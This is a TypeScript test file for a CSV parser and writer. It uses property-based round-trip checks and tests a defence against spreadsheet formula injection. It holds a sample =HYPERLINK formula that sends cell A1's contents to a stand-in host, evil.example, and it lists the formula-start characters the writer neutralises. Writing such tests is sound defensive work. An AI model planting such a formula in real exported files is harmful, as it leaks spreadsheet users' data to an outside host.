import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvLine, csvNumber, csvSeparatorOf, csvText, parseCsv } from './csv-parse.js';

/** 2 000 random lines a run; FC_RUNS raises it when hunting. */
const RUNS = Math.max(2000, Number(process.env.FC_RUNS ?? 0));
/** The run's seed: a failure names it with the command that replays the run (FC_SEED=…), as tests/rules/cashier-agreement.test.ts does. */
const SEED = process.env.FC_SEED ? Number(process.env.FC_SEED) : Math.floor(Math.random() * 2 ** 31);
const REPLAY = `FC_SEED=${SEED}${process.env.FC_RUNS ? ` FC_RUNS=${RUNS}` : ''} npx vitest run --project server server/domain/admin-catalogue/csv-parse.test.ts`;
/**
 * Lines tried before the random ones in every run: a case a run found failing is kept here, as it
 * was shrunk, so it is tried for ever after; the edges the writer's rule turns on stand beside them
 * (a lone quote, a formula start after quotes, a line break in a cell, a cell that is all
 * separators).
 */
const FOUND_CELLS: [string[]][] = [
  [['']], [["'"]], [["''="]], [['=', '+', '-', '@']], [['\t', '\r', '\r\n', '\n']], [['"', '""', ',', ' ']], [["'\r", "'\t1"]],
];

const fieldsOf = (text: string) => {
  const parsed = parseCsv(text);
  expect(parsed.ok).toBe(true);
  return parsed.records.map((r) => [r.line, ...r.fields]);
};

describe('parseCsv', () => {
  it('reads plain records separated by LF or CRLF, with or without a last line break', () => {
    expect(fieldsOf('a,b\n1,2\n')).toEqual([[1, 'a', 'b'], [2, '1', '2']]);
    expect(fieldsOf('a,b\r\n1,2')).toEqual([[1, 'a', 'b'], [2, '1', '2']]);
  });

  it('keeps empty fields, including a last one', () => {
    expect(fieldsOf('a,,c,\n')).toEqual([[1, 'a', '', 'c', '']]);
  });

  it('reads quoted fields with commas, doubled quotes and line breaks, counting lines from where each record starts', () => {
    expect(fieldsOf('x,"a, ""b""\nc"\ny,z\n')).toEqual([[1, 'x', 'a, "b"\nc'], [3, 'y', 'z']]);
  });

  it('skips a byte-order mark and blank lines, keeping the line numbers of the file', () => {
    expect(fieldsOf('\uFEFFsku\n\nA1\r\n\r\nA2\n')).toEqual([[1, 'sku'], [3, 'A1'], [5, 'A2']]);
  });

  it('reports an unterminated quote and text after a closing quote with their line', () => {
    expect(parseCsv('a\n"open,\n')).toMatchObject({ ok: false, line: 2, problem: 'unterminated quote' });
    expect(parseCsv('a\nb\n"x"y\n')).toMatchObject({ ok: false, line: 3, problem: 'text after a closing quote' });
  });

  it('reads back what csvLine writes', () => {
    const fields = ['plain', 'with, comma', 'with "quote"', 'two\nlines', ''];
    expect(parseCsv(csvLine(fields) + csvLine(['next']))).toMatchObject({ ok: true, records: [{ line: 1, fields }, { line: 3, fields: ['next'] }] });
  });
});

describe('cells a spreadsheet would run (decision 219)', () => {
  const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")';

  it('are written quoted after a single quote, so a spreadsheet shows them as text', () => {
    expect(csvLine([HYPERLINK, 'A1'])).toBe('"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",A1\r\n');
    for (const cell of ['=1+1', '+39 02', '-2+3', '@SUM(A1)', '\tX', '\rX']) {
      expect(csvLine([cell]), JSON.stringify(cell)).toBe(`"'${cell}"\r\n`);
    }
    // A quote already in front of such a cell gets one more, so reading back stays exact.
    expect(csvLine(["'=1+1", "''-3"])).toBe('"\'\'=1+1","\'\'\'-3"\r\n');
  });

  it('leaves other text and the numbers the writer makes itself as they are, negative ones too', () => {
    expect(csvLine(['RG-TB-00001', "l'Eroica", 'a = b', '', csvNumber('-3'), csvNumber('1234.50'), csvNumber('0')]))
      .toBe("RG-TB-00001,l'Eroica,a = b,,-3,1234.50,0\r\n");
    expect(() => csvNumber('=1+1')).toThrow();
    expect(() => csvNumber('1e3')).toThrow();
  });

  it('are read back as they were: the quote comes off only in front of such a cell', () => {
    const read = (text: string) => parseCsv(text).records.map((r) => r.fields.map(csvText));
    expect(read(csvLine([HYPERLINK, '=1+1', "'=1+1", '\tX', 'plain']))).toEqual([[HYPERLINK, '=1+1', "'=1+1", '\tX', 'plain']]);
    // A quote the file's author typed before anything else stays: it is the cell's own.
    expect(read("'abc,'',',\'1\n")).toEqual([["'abc", "''", "'", "'1"]]);
  });

  it('round-trip any text made of quotes, formula starts, separators and letters', () => {
    const char = fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', '\n', '"', ',', ' ', 'a', '1');
    const cell = fc.array(char, { maxLength: 6 }).map((chars) => chars.join(''));
    const details = fc.check(fc.property(fc.array(cell, { minLength: 1, maxLength: 4 }), (cells) => {
      const written = csvLine(cells);
      const parsed = parseCsv(written);
      const fields = cells.length === 1 && cells[0] === '' ? [] : [cells];
      expect(parsed.records.map((r) => r.fields.map(csvText))).toEqual(fields);
      for (const field of parsed.records[0]?.fields ?? []) expect(field).not.toMatch(/^[=+\-@\t\r]/);
    }), { numRuns: RUNS, seed: SEED, examples: FOUND_CELLS });
    if (details.failed) throw new Error(`${fc.defaultReportMessage(details)}\n\nReplay this run: ${REPLAY}`);
  });
});

describe('csvSeparatorOf and semicolons (decision 233)', () => {
  it('takes the separator from the first line', () => {
    expect(csvSeparatorOf('\ufeffsku;price;stock\r\nA1;16,50;3\r\n')).toBe(';');
    expect(csvSeparatorOf('sku,price\nA1,16.50\n')).toBe(',');
    expect(csvSeparatorOf('sku\nA1;B\n')).toBe(',');
  });

  it('reads semicolon-separated records, a quoted field keeping its semicolons and commas', () => {
    const parsed = parseCsv('\ufeffsku;price\r\nA1;"16,50"\r\n"B;2";3\r\n', ';');
    expect(parsed).toMatchObject({ ok: true, records: [{ line: 1, fields: ['sku', 'price'] }, { line: 2, fields: ['A1', '16,50'] }, { line: 3, fields: ['B;2', '3'] }] });
  });
});
